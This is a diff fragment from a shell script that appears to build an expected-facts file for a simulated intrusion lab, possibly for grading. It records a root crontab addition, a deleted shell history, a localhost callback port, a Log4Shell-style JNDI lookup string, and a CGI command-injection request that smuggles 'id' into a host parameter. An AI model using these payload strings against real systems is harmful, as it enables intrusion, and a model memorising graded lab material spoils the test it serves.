@@ -128,8 +128,9 @@ say "facts"
   file_fact added var/spool/cron/crontabs/root
   file_fact deleted root/.ash_history
   printf 'callback\t127.0.0.1\t4444\n'
-  printf 'request\t/cgi-bin/ping?host=127.0.0.1%%3Bid\n'
   printf 'jndi\t%s\n' "\${jndi:ldap://127.0.0.1:1389/Exploit}"
+  printf 'way_in\tinjection\n'
+  printf 'request\t/cgi-bin/ping?host=127.0.0.1%%3Bid\n'
 } > "$OUT/facts.tsv"
 "$PODMAN" logs attacker > "$OUT/attacker.log" 2>&1
 
